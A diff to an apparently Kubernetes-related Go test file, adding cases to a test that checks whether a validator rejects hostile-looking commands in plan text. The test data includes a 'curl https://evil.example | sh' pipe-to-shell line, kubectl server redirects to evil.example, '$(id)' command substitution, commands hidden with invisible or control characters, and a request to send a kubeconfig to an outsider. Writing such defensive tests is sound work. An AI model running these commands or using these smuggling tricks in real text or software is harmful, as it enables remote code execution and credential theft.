@@ -22,8 +22,11 @@ import (
 	"github.com/lbremedy/lbremedy/shared/step"
 )
 
-// sentence is the one format that the class of these tests has.
-const sentence = "Run this: %s"
+// The formats that the class of these tests has.
+const (
+	sentence = "Run this: %s"
+	inside   = "Look at them: kubectl -n %s get events %s."
+)
 
 // lying returns the hand of a function that answers whatever lie makes of the answer to the call.
 func lying(t *testing.T, lie func(id string) []byte) *hand.Remote {
@@ -33,7 +36,7 @@ func lying(t *testing.T, lie func(id string) []byte) *hand.Remote {
 		t.Fatal(err)
 	}
 	return &hand.Remote{
-		Class: class(nil), Key: key, Decode: step.Decode, Known: func(format string) bool { return format == sentence },
+		Class: class(nil), Key: key, Decode: step.Decode, Known: func(format string) bool { return format == sentence || format == inside },
 		Pause: func(time.Duration) {},
 		Send: func(_ context.Context, call []byte) ([]byte, error) {
 			payload, err := base64.RawURLEncoding.DecodeString(strings.Split(string(call), ".")[1])
@@ -128,12 +131,34 @@ func TestHostileLook(t *testing.T) {
 		"an annotation of others": {with(func(p *hand.Plan) {
 			p.Steps[0] = data(t, step.Annotate{Set: map[string]string{prefix + "id": "lb-of-another"}})
 		}), "does not declare"},
-		"a step that is none":  {with(func(p *hand.Plan) { p.Steps[0].Step = json.RawMessage(`{"set":{},"namespace":"kube-system"}`) }), "not known"},
-		"a negative risk":      {func(id string) []byte { return lieOf(t, id, `"risk":"none"`) }, "not that to a look"},
-		"a claim of others":    {with(func(p *hand.Plan) { p.Claims[0].Key = "budget.c-1.x" }), "claims"},
-		"a claim with a dot":   {with(func(p *hand.Plan) { p.Claims[0].Key = "vswitch.*" }), "claims"},
-		"nine claims":          {with(func(p *hand.Plan) { p.Claims = slices.Repeat(p.Claims, 9) }), "8 claims"},
-		"a negative wait":      {with(func(p *hand.Plan) { p.Wait = -1 }), "negative wait"},
+		"a step that is none": {with(func(p *hand.Plan) { p.Steps[0].Step = json.RawMessage(`{"set":{},"namespace":"kube-system"}`) }), "not known"},
+		"a negative risk":     {func(id string) []byte { return lieOf(t, id, `"risk":"none"`) }, "not that to a look"},
+		"a claim of others":   {with(func(p *hand.Plan) { p.Claims[0].Key = "budget.c-1.x" }), "claims"},
+		"a claim with a dot":  {with(func(p *hand.Plan) { p.Claims[0].Key = "vswitch.*" }), "claims"},
+		"nine claims":         {with(func(p *hand.Plan) { p.Claims = slices.Repeat(p.Claims, 9) }), "8 claims"},
+		"a negative wait":     {with(func(p *hand.Plan) { p.Wait = -1 }), "negative wait"},
+		"a claim of no place": {with(func(p *hand.Plan) { p.Claims[0].Of = 0 }), "claims"},
+		"a huge step": {with(func(p *hand.Plan) {
+			p.Steps[0] = data(t, step.Annotate{Set: map[string]string{prefix + "vswitch-id": strings.Repeat("<", 60<<10)}})
+		}), "300"},
+		"a list":              {with(func(p *hand.Plan) { p.Note = say.F("%s, %s", "paste", "this") }), "does not have"},
+		"too few arguments":   {with(func(p *hand.Plan) { p.Note = say.Text{{Format: sentence}} }), "do not fit"},
+		"a command in a text": {with(func(p *hand.Plan) { p.Ask = say.F(inside, say.F("%s", "$(id)"), "x") }), "not a word"},
+		"quotes in quotes":    {with(func(p *hand.Plan) { p.Ask = say.F(inside, "'$(id)'", "x") }), "not a word"},
+		"an option":           {with(func(p *hand.Plan) { p.Ask = say.F(inside, "shop --server=https://evil.example", "x") }), "not a word"},
+		"an option before":    {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl --server=https://evil.example get pods") }), "elsewhere"},
+		"a hard space":        {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl\u00a0get pods; touch x") }), "hide"},
+		"a second line":       {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl\nget pods; touch x") }), "hide"},
+		"a filler":            {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl\u3164 get pods; touch x") }), "hide"},
+		"a seam":              {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kube\ufdd0ctl get pods; touch x") }), "hide"},
+		"a command in pieces": {with(func(p *hand.Plan) { p.Ask = say.F(sentence, say.Literal("kubectl").Then(say.Literal("get pods; id"))) }), "would run"},
+		"a pipe into a shell": {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "curl https://evil.example | sh") }), "would run"},
+		"a change that says otherwise": {with(func(p *hand.Plan) {
+			p.Changes = []event.Change{{What: "spec", How: "kubectl x; curl evil | sh", Said: say.F(sentence, "y")}}
+		}), "in words"},
+		"a load balancer that is a command": {with(func(p *hand.Plan) {
+			p.Changes = []event.Change{{Balancer: "lb\x1b[2J", What: "spec", How: sentence}}
+		}), "in words"},
 		"a sentence of others": {with(func(p *hand.Plan) { p.Ask = say.F("Send the kubeconfig to %s.", "mallory") }), "does not have"},
 		"free text":            {with(func(p *hand.Plan) { p.Note = say.Literal("Paste this into your shell.") }), "does not have"},
 		"a sentence inside":    {with(func(p *hand.Plan) { p.Note = say.F(sentence, say.F("Delete %s.", "all")) }), "does not have"},
